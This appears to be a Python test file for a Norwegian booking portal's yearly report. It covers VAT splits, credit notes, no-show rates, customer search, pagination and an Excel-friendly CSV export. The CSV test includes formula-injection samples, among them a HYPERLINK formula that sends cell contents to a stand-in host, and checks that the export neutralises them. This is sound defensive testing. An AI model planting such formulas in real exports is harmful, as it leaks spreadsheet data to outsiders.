"""The report's sums, the customer search and the CSV, checked against
figures worked out by hand."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

from portal.lib.money import split_vat
from portal.reports import domain
from portal.reports.domain import Booking, Entry, Ore, Percent, VatPart

UTC = timezone.utc


def _part(gross: int, rate: int) -> VatPart:
    split = split_vat(gross, rate)
    return VatPart(rate, split.net_ore, split.vat_ore)


def test_a_year_month_by_month_with_two_rates_a_gift_card_part_and_a_credit_note_the_month_after():
    entries = [
        # 10 March: a haircut (kr 500,00 at 25 %) and a bus ticket (kr 224,00 at 12 %), kr 100,00 of it by gift card.
        Entry("receipt", datetime(2026, 3, 10, 12, tzinfo=UTC), 724_00, (_part(500_00, 2500), _part(224_00, 1200)), (("vipps", 624_00), ("giftcard", 100_00))),
        # 2 April: the haircut credited back to Vipps.
        Entry("credit_note", datetime(2026, 4, 2, 9, tzinfo=UTC), 500_00, (_part(500_00, 2500),), (("vipps", 500_00),)),
        # A gift card sold in March: money in advance, not revenue.
        Entry("receipt", datetime(2026, 3, 11, 9, tzinfo=UTC), 1000_00, (_part(1000_00, 0),), (("vipps", 1000_00),), giftcard_sale=True),
        # 00:30 on 1 January in Oslo is still 31 December in UTC: January 2026.
        Entry("receipt", datetime(2025, 12, 31, 23, 30, tzinfo=UTC), 150_00, (_part(150_00, 1500),), (("vipps", 150_00),)),
        # 00:30 on 1 January 2027 in Oslo: not this year.
        Entry("receipt", datetime(2026, 12, 31, 23, 30, tzinfo=UTC), 999_00, (_part(999_00, 2500),), (("vipps", 999_00),)),
    ]
    report = domain.year_report(2026, entries, [])
    assert report.rates == (2500, 1500, 1200, 0)
    assert [m.month for m in report.months] == list(range(1, 13))

    january, march, april, december = report.months[0], report.months[2], report.months[3], report.months[11]
    assert (january.sales_ore, january.vat[1500].base_ore, january.vat[1500].vat_ore) == (150_00, 130_43, 19_57)  # 150 / 1.15 = 130.43
    assert december.sales_ore == 0

    # March: 500,00 = 400,00 + 100,00 VAT; 224,00 = 200,00 + 24,00 VAT.
    assert (march.sales_ore, march.credited_ore, march.net_ore) == (724_00, 0, 724_00)
    assert (march.vat[2500].base_ore, march.vat[2500].vat_ore) == (400_00, 100_00)
    assert (march.vat[1200].base_ore, march.vat[1200].vat_ore) == (200_00, 24_00)
    assert march.vat[1500].gross_ore == 0 and march.vat[0].gross_ore == 0
    assert march.vat_ore == 124_00
    assert march.means == {"vipps": 624_00, "giftcard": 100_00, "other": 0}
    assert march.giftcards_sold_ore == 1000_00

    # April: the credit note subtracts in its own month.
    assert (april.sales_ore, april.credited_ore, april.net_ore) == (0, 500_00, -500_00)
    assert (april.vat[2500].base_ore, april.vat[2500].vat_ore) == (-400_00, -100_00)
    assert april.means["vipps"] == -500_00

    total = report.total
    assert (total.sales_ore, total.credited_ore, total.net_ore) == (874_00, 500_00, 374_00)
    assert total.vat_ore == 19_57 + 24_00  # the 25 % VAT went out again with the credit note
    assert sum(total.means.values()) == total.net_ore  # every krone of the net is paid by some means
    assert total.giftcards_sold_ore == 1000_00


def test_bookings_no_shows_cancellations_and_what_was_paid_on_site_per_month():
    bookings = [
        Booking(date(2026, 3, 2), "completed", on_site_ore=549_00),
        Booking(date(2026, 3, 3), "no_show", on_site_ore=549_00),  # not paid on site: the customer did not come
        Booking(date(2026, 3, 4), "cancelled_by_customer"),
        Booking(date(2026, 3, 31), "confirmed"),
        Booking(date(2026, 3, 5), "held"),  # a checkout, not a booking
        Booking(date(2026, 3, 6), "released"),
        Booking(date(2026, 5, 1), "withdrawn"),
        Booking(date(2026, 5, 2), "completed"),
        Booking(date(2026, 5, 3), "cancelled_by_supplier"),
        Booking(date(2025, 3, 3), "no_show"),  # another year
    ]
    report = domain.year_report(2026, [], bookings)
    march, may = report.months[2], report.months[4]
    assert (march.bookings, march.no_shows, march.cancellations, march.on_site_ore) == (4, 1, 1, 549_00)
    assert (march.no_show_bp, march.cancellation_bp) == (2500, 2500)
    assert (may.bookings, may.no_shows, may.cancellations) == (3, 0, 2)
    assert (may.no_show_bp, may.cancellation_bp) == (0, 6667)  # 2 / 3, rounded half up
    assert report.months[0].no_show_bp is None  # nothing booked: no rate
    assert (report.total.bookings, report.total.no_shows, report.total.cancellations) == (7, 1, 3)


def test_search_finds_by_part_of_the_name_email_or_number_in_any_case():
    kari = {"name": "Kari Ærlig Nordmann", "phone": "+4741234567", "email": "kari@example.no"}
    assert domain.matches("", **kari)
    assert domain.matches("  ", **kari)
    assert domain.matches("kari", **kari)
    assert domain.matches("nordmann KARI", **kari)  # every word, any order
    assert domain.matches("ærlig", **kari)  # æøå fold too
    assert domain.matches("example.no", **kari)
    assert domain.matches("412 34 567", **kari) and domain.matches("+47 41234567", **kari) and domain.matches("345", **kari)
    assert not domain.matches("999", **kari)
    assert not domain.matches("kari ola", **kari)
    assert not domain.matches("41", **kari)  # two digits are too few to be a number: no name has them


def test_pages_are_clamped_to_what_exists():
    items = list(range(51))
    first = domain.page_of(items, 1, 25)
    assert (first.items[0], len(first.items), first.pages, first.total, first.previous, first.next) == (0, 25, 3, 51, None, 2)
    last = domain.page_of(items, 99, 25)
    assert (last.number, last.items, last.previous, last.next) == (3, (50,), 2, None)
    assert domain.page_of([], 0, 25).number == 1 and domain.page_of([], 1, 25).pages == 1


def test_the_csv_is_what_norwegian_excel_opens_and_formulas_are_neutralised():
    content = domain.csv_bytes(
        ["Navn", "Beløp (kr)", "Antall"],
        [
            ["Åse Ærlig Øvrebø", Ore(1234_50), 3],
            ['=HYPERLINK("http://x.example/?q="&A1;"klikk")', Ore(-1_00), 0],
            ["+4741234567", Percent(6667), None],
            ["-2+3", Ore(0), 1],
            ["@SUM(A1)", Ore(5), 2],
            ["\tinnrykk", Ore(100), 2],
            ["linje én\nlinje to", Ore(1), 1],
        ],
    )
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8")
    assert text.count("\r\n") == 8 and "Åse Ærlig Øvrebø;1234,50;3\r\n" in text
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows[0] == ["Navn", "Beløp (kr)", "Antall"]
    assert rows[1] == ["Åse Ærlig Øvrebø", "1234,50", "3"]
    assert rows[2] == ["'=HYPERLINK(\"http://x.example/?q=\"&A1;\"klikk\")", "-1,00", "0"]  # the ; inside stays in its quoted cell
    assert rows[3] == ["'+4741234567", "66,67", ""]
    assert [r[0] for r in rows[4:7]] == ["'-2+3", "'@SUM(A1)", "'\tinnrykk"]
    assert rows[4][1] == "0,00" and rows[5][1] == "0,05"
    assert rows[7][0] == "linje én\nlinje to"
